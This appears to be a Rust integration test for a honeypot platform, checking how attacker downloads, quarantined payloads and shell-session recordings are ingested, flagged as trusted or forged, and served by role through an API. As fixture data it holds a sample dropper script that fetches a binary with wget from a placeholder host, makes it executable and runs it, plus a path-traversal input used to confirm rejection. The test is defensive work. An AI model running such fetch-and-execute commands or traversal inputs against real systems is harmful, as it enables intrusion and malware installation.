//! What attackers bring and do, from a decky's log line to an admin's
//! download: real `decnet bus`, `decnet collector` and `decnet api`
//! processes (the API's ingester), one SQLite file, a real asciicast file
//! written by the decky crate's recording module, and a quarantined file
//! named by its SHA-256. Lines arrive on the collector's UNIX socket the
//! way deckies ship them (trusted) and over loopback TCP the way a forger
//! on the host would (untrusted).

mod support;

use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use decnet_bus::Bus;
use sha2::{Digest, Sha256};
use support::{free_port, free_tcp_udp_port, wait_until, Daemon, Proc, BIN};

const ATTACKER: &str = "127.0.0.9";
const FORGER: &str = "127.0.0.8";
const SID: &str = "0123456789abcdef";

fn hex_sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

/// One line of web-01's, as the decky writes it.
fn decky_line(src_ip: &str, app: &str, msgid: &str, params: &[(&str, &str)]) -> Vec<u8> {
    support::decky_line("web-01", src_ip, app, msgid, params)
}

fn spawn(home: &Path, bus: &Path, args: &[&str]) -> Proc {
    Proc(
        Command::new(BIN)
            .args(args)
            .env("DECNET_HOME", home)
            .env("DECNET_DB", home.join("decnet.db"))
            .env("DECNET_BUS_SOCKET", bus)
            .env("DECNET_INGEST_LOG_FILE", home.join("ingest.log"))
            .env_remove("DECNET_ARTIFACTS_DIR")
            .env_remove("DECNET_RECORDINGS_DIR")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    )
}

async fn count(pool: &sqlx::SqlitePool, sql: &str) -> i64 {
    sqlx::query_scalar(sql).fetch_one(pool).await.unwrap()
}

async fn wait_count(pool: &sqlx::SqlitePool, sql: &str, want: i64) -> i64 {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let n = count(pool, sql).await;
        if n >= want || Instant::now() > deadline {
            return n;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn login(http: &reqwest::Client, base: &str, user: &str, password: &str) -> String {
    let r = http
        .post(format!("{base}/api/v1/auth/login"))
        .json(&serde_json::json!({"username": user, "password": password}))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success(), "login {user}: {}", r.status());
    r.json::<serde_json::Value>().await.unwrap()["access_token"].as_str().unwrap().to_string()
}

async fn get(http: &reqwest::Client, url: String, token: Option<&str>) -> reqwest::Response {
    let mut req = http.get(url);
    if let Some(t) = token {
        req = req.bearer_auth(t);
    }
    req.send().await.unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn artifacts_downloads_and_recordings_are_stored_published_and_served_to_the_right_roles() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path();
    let bus_daemon = Daemon::start(home, &[]);
    let pool = decnet::store::open(&home.join("decnet.db")).await.unwrap();
    for (user, role) in [("ada", decnet::auth::Role::Admin), ("eve", decnet::auth::Role::Viewer)] {
        let hash = decnet::auth::hash_password(&format!("pw-{user}")).unwrap();
        decnet::store::users::create(&pool, user, &hash, role).await.unwrap();
    }

    // What the decky left on disk: a fetched payload in quarantine, and a
    // shell session's recording made by the decky crate itself.
    let payload = b"#!/bin/sh\ncd /tmp; wget http://198.51.100.2/x86; chmod +x x86; ./x86\n".to_vec();
    let payload_sha = hex_sha256(&payload);
    std::fs::create_dir_all(home.join("artifacts")).unwrap();
    std::fs::write(home.join("artifacts").join(&payload_sha), &payload).unwrap();
    // An upload whose file was evicted since: its row stays, its bytes are gone.
    let evicted_sha = hex_sha256(b"evicted");
    let mut rec = decnet_decky::recording::Recording::new("/bin/bash", decnet_decky::recording::DEFAULT_LIMIT);
    rec.output(b"root@web-01:~# ");
    rec.input(b"id\r");
    rec.output(b"uid=0(root) gid=0(root) groups=0(root)\r\n");
    let written = rec.finish(&home.join("recordings"), "web-01", SID).unwrap();
    let cast = std::fs::read(&written.path).unwrap();

    let syslog_port = free_tcp_udp_port();
    let _collector =
        spawn(home, &bus_daemon.socket, &["collector", "--listen", &format!("127.0.0.1:{syslog_port}"), "--no-docker"]);
    let api_port = free_port();
    let _api = spawn(home, &bus_daemon.socket, &["api", "--listen", &format!("127.0.0.1:{api_port}")]);
    let bus = decnet_bus::client::UnixBus::connect("test", &bus_daemon.socket).await.unwrap();
    let mut artifacts_sub = bus.subscribe("attacker.artifact").await.unwrap();

    let url = "http://198.51.100.2/bins.sh";
    let path = "/tmp/bins.sh";
    let recording_path = written.path.display().to_string();
    let recording_bytes = written.bytes.to_string();
    let trusted = [
        decky_line(
            ATTACKER,
            "ssh",
            "download",
            &[("sid", SID), ("url", url), ("tool", "wget"), ("path", path), ("fetch", "stored")],
        ),
        decky_line(
            ATTACKER,
            "ssh",
            "artifact",
            &[
                ("sid", SID),
                ("source", "url"),
                ("url", url),
                ("path", path),
                ("sha256", &payload_sha),
                ("size", &payload.len().to_string()),
                ("mime", "text/x-shellscript"),
            ],
        ),
        // The same capture reported twice is one row and one event.
        decky_line(
            ATTACKER,
            "ssh",
            "artifact",
            &[
                ("sid", SID),
                ("source", "url"),
                ("url", url),
                ("path", path),
                ("sha256", &payload_sha),
                ("size", &payload.len().to_string()),
                ("mime", "text/x-shellscript"),
            ],
        ),
        decky_line(
            ATTACKER,
            "ssh",
            "download",
            &[("sid", SID), ("url", "tftp://198.51.100.3/m"), ("tool", "tftp"), ("path", "/tmp/m"), ("fetch", "off")],
        ),
        decky_line(
            ATTACKER,
            "ssh",
            "artifact",
            &[
                ("sid", SID),
                ("source", "upload"),
                ("path", "/root/.ssh/authorized_keys"),
                ("sha256", &evicted_sha),
                ("size", "7"),
                ("mime", "text/plain"),
            ],
        ),
        decky_line(
            ATTACKER,
            "ssh",
            "session_recorded",
            &[
                ("sid", SID),
                ("service", "ssh"),
                ("duration_s", "4.250"),
                ("bytes", "900"),
                ("commands", r#"["id"]"#),
                ("username", "root"),
                ("recording", &recording_path),
                ("recording_bytes", &recording_bytes),
                ("recording_sha256", &written.sha256),
            ],
        ),
        // A session without a shell has no recording.
        decky_line(ATTACKER, "http", "session_recorded", &[("sid", "ffff000011112222"), ("duration_s", "0.010")]),
        // A decky line naming a file outside the recordings folder is
        // stored, but never served.
        decky_line(
            ATTACKER,
            "ssh",
            "session_recorded",
            &[
                ("sid", "outside0outside0"),
                ("recording", "/etc/hostname"),
                ("recording_bytes", "1"),
                ("recording_sha256", &"0".repeat(64)),
            ],
        ),
    ];
    let mut unix = None;
    assert!(wait_until(20.0, || {
        unix = std::os::unix::net::UnixStream::connect(home.join("collector.sock")).ok();
        unix.is_some()
    }));
    let mut unix = unix.unwrap();
    for line in &trusted {
        unix.write_all(line).unwrap();
    }
    // The same kinds of line forged over loopback TCP: kept in `logs`,
    // flagged untrusted, and no evidence.
    let mut tcp = None;
    let syslog: SocketAddr = format!("127.0.0.1:{syslog_port}").parse().unwrap();
    assert!(wait_until(20.0, || {
        tcp = TcpStream::connect(syslog).ok();
        tcp.is_some()
    }));
    let mut tcp = tcp.unwrap();
    tcp.write_all(&decky_line(
        FORGER,
        "ssh",
        "artifact",
        &[("sid", "f1"), ("source", "upload"), ("path", "/x"), ("sha256", &payload_sha), ("size", "1")],
    ))
    .unwrap();
    tcp.write_all(&decky_line(
        FORGER,
        "ssh",
        "session_recorded",
        &[
            ("sid", "f1"),
            ("recording", &recording_path),
            ("recording_bytes", &recording_bytes),
            ("recording_sha256", &written.sha256),
        ],
    ))
    .unwrap();
    tcp.flush().unwrap();

    // attacker.artifact: one per new capture, the SPEC's payload exactly.
    let mut events = Vec::new();
    for _ in 0..2 {
        let ev = tokio::time::timeout(Duration::from_secs(20), artifacts_sub.recv()).await.unwrap().unwrap();
        events.push(ev.payload);
    }
    assert_eq!(
        events[0],
        serde_json::json!({"attacker_ip": ATTACKER, "decky": "web-01", "sid": SID, "source": "url", "url": url,
                           "path": path, "sha256": payload_sha, "size": payload.len(), "mime": "text/x-shellscript"})
    );
    assert_eq!(
        events[1],
        serde_json::json!({"attacker_ip": ATTACKER, "decky": "web-01", "sid": SID, "source": "upload",
                           "path": "/root/.ssh/authorized_keys", "sha256": evicted_sha, "size": 7, "mime": "text/plain"})
    );
    let forged_rows = format!(
        "SELECT count(*) FROM logs WHERE attacker_ip = '{FORGER}' AND json_extract(fields, '$.ingest_trusted') = 0"
    );
    assert_eq!(wait_count(&pool, &forged_rows, 2).await, 2, "the forged lines are in logs");
    // Each batch is one transaction: with the forged rows visible, any
    // evidence they made would be too.
    assert_eq!(count(&pool, &format!("SELECT count(*) FROM artifacts WHERE attacker_ip = '{FORGER}'")).await, 0);
    assert_eq!(count(&pool, "SELECT count(*) FROM recordings WHERE sid = 'f1'").await, 0);
    assert_eq!(count(&pool, "SELECT count(*) FROM artifacts").await, 2, "the repeated capture is one row");
    // The recordings came after the last artifact on the socket: maybe a later batch.
    assert_eq!(wait_count(&pool, "SELECT count(*) FROM recordings", 2).await, 2);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(count(&pool, "SELECT count(*) FROM recordings").await, 2, "the shell-less session has none");
    assert!(
        tokio::time::timeout(Duration::from_millis(500), artifacts_sub.recv()).await.is_err(),
        "no event for the repeated capture or the forged line"
    );

    let http = reqwest::Client::new();
    let base = format!("http://127.0.0.1:{api_port}");
    let (admin, viewer) = (login(&http, &base, "ada", "pw-ada").await, login(&http, &base, "eve", "pw-eve").await);

    // The attacker's lists (viewer).
    let r = get(&http, format!("{base}/api/v1/attackers/{ATTACKER}/artifacts"), Some(&viewer)).await;
    assert_eq!(r.status(), 200);
    let body: serde_json::Value = r.json().await.unwrap();
    let shas: Vec<&str> = body["artifacts"].as_array().unwrap().iter().map(|a| a["sha256"].as_str().unwrap()).collect();
    assert_eq!(shas.len(), 2);
    assert!(shas.contains(&payload_sha.as_str()) && shas.contains(&evicted_sha.as_str()));
    let downloads = body["downloads"].as_array().unwrap();
    assert_eq!(downloads.len(), 2, "{downloads:?}");
    let off = downloads.iter().find(|d| d["tool"] == "tftp").unwrap();
    assert_eq!((off["url"].as_str(), off["fetch"].as_str()), (Some("tftp://198.51.100.3/m"), Some("off")));
    assert_eq!(get(&http, format!("{base}/api/v1/attackers/not-an-ip/artifacts"), Some(&viewer)).await.status(), 400);
    assert_eq!(get(&http, format!("{base}/api/v1/attackers/{ATTACKER}/artifacts"), None).await.status(), 401);

    // The bytes: admins only, as an attachment, found by hash alone.
    let file = format!("{base}/api/v1/artifacts/{payload_sha}");
    assert_eq!(get(&http, file.clone(), None).await.status(), 401);
    let r = get(&http, file.clone(), Some(&viewer)).await;
    assert_eq!(r.status(), 403, "a viewer cannot download");
    let r = get(&http, file.clone(), Some(&admin)).await;
    assert_eq!(r.status(), 200);
    let h = r.headers();
    assert_eq!(h["content-type"], "application/octet-stream");
    assert_eq!(h["content-disposition"], format!("attachment; filename=\"{payload_sha}.bin\"").as_str());
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(r.bytes().await.unwrap().as_ref(), payload.as_slice());
    let upper = get(&http, format!("{base}/api/v1/artifacts/{}", payload_sha.to_uppercase()), Some(&admin)).await;
    assert_eq!(upper.status(), 200, "hex in either case");
    for bad in ["..%2F..%2Fdecnet.db", "not-hex", &"g".repeat(64), &payload_sha[..63]] {
        let r = get(&http, format!("{base}/api/v1/artifacts/{bad}"), Some(&admin)).await;
        assert_eq!(r.status(), 400, "{bad}");
    }
    let unknown = get(&http, format!("{base}/api/v1/artifacts/{}", hex_sha256(b"never seen")), Some(&admin)).await;
    assert_eq!(unknown.status(), 404);
    let evicted = get(&http, format!("{base}/api/v1/artifacts/{evicted_sha}"), Some(&admin)).await;
    assert_eq!(evicted.status(), 404);
    assert!(evicted.text().await.unwrap().contains("no longer kept"));
    // Something other than a decky's regular file in its place is never
    // served: a symlink to the database, then a folder.
    let planted = home.join("artifacts").join(&evicted_sha);
    std::os::unix::fs::symlink(home.join("decnet.db"), &planted).unwrap();
    let r = get(&http, format!("{base}/api/v1/artifacts/{evicted_sha}"), Some(&admin)).await;
    assert_eq!(r.status(), 404, "a symlink is not followed");
    std::fs::remove_file(&planted).unwrap();
    std::fs::create_dir(&planted).unwrap();
    assert_eq!(get(&http, format!("{base}/api/v1/artifacts/{evicted_sha}"), Some(&admin)).await.status(), 404);

    // Sessions and their recordings (viewer).
    let r = get(&http, format!("{base}/api/v1/attackers/{ATTACKER}/sessions"), Some(&viewer)).await;
    assert_eq!(r.status(), 200);
    let body: serde_json::Value = r.json().await.unwrap();
    let session = body["sessions"].as_array().unwrap().iter().find(|s| s["sid"] == SID).unwrap().clone();
    assert_eq!((session["decky"].as_str(), session["service"].as_str()), (Some("web-01"), Some("ssh")));
    assert_eq!((session["username"].as_str(), session["commands"].as_i64()), (Some("root"), Some(1)));
    assert!((session["duration_s"].as_f64().unwrap() - 4.25).abs() < 1e-6, "{session}");
    let r = get(&http, format!("{base}/api/v1/recordings/{SID}"), Some(&viewer)).await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert_eq!(r.bytes().await.unwrap().as_ref(), cast.as_slice());
    assert_eq!(get(&http, format!("{base}/api/v1/recordings/{SID}"), None).await.status(), 401);
    assert_eq!(get(&http, format!("{base}/api/v1/recordings/a.b"), Some(&viewer)).await.status(), 400);
    assert_eq!(get(&http, format!("{base}/api/v1/recordings/nosuchsession"), Some(&viewer)).await.status(), 404);
    assert_eq!(get(&http, format!("{base}/api/v1/recordings/outside0outside0"), Some(&viewer)).await.status(), 404);
    // A recording changed after the session is not replayed as evidence.
    std::fs::OpenOptions::new().append(true).open(&written.path).unwrap().write_all(b"[9, \"o\", \"x\"]\n").unwrap();
    assert_eq!(get(&http, format!("{base}/api/v1/recordings/{SID}"), Some(&viewer)).await.status(), 409);
    bus.close().await;
}
